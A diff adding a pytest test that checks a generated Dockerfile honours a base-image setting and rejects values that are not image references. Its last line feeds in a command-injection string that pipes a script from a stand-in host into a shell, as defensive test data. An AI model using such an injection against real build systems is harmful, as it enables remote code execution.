@@ -368,3 +368,15 @@ def test_the_readmes_settings_table_gives_the_schemas_defaults():
                 assert default == shown(schema[key]["default"]), (key, default)
                 checked.add(key)
     assert checked >= set(PASSED_THROUGH) - {"jwt_issuer", "jwt_audience"}, set(PASSED_THROUGH) - checked
+
+
+@pytest.mark.unit
+def test_the_dockerfile_takes_the_base_image_setting_and_refuses_what_is_no_image():
+    from aws_lambda_operator.deployable import DeployableError, dockerfile_text
+
+    mirror = "public.ecr.aws/docker/library/python:3.11-slim-bookworm@sha256:" + "0f" * 32
+    text = dockerfile_text("m:1", "src.service:svc", mirror)
+    assert f"ARG BASE_IMAGE={mirror}\n" in text and "FROM ${BASE_IMAGE}" in text
+    assert "ARG BASE_IMAGE=python:3.11-slim-bookworm\n" in dockerfile_text("m:1", "src.service:svc")
+    with pytest.raises(DeployableError, match="not an image reference"):
+        dockerfile_text("m:1", "src.service:svc", "python:3.11 && curl evil | sh")
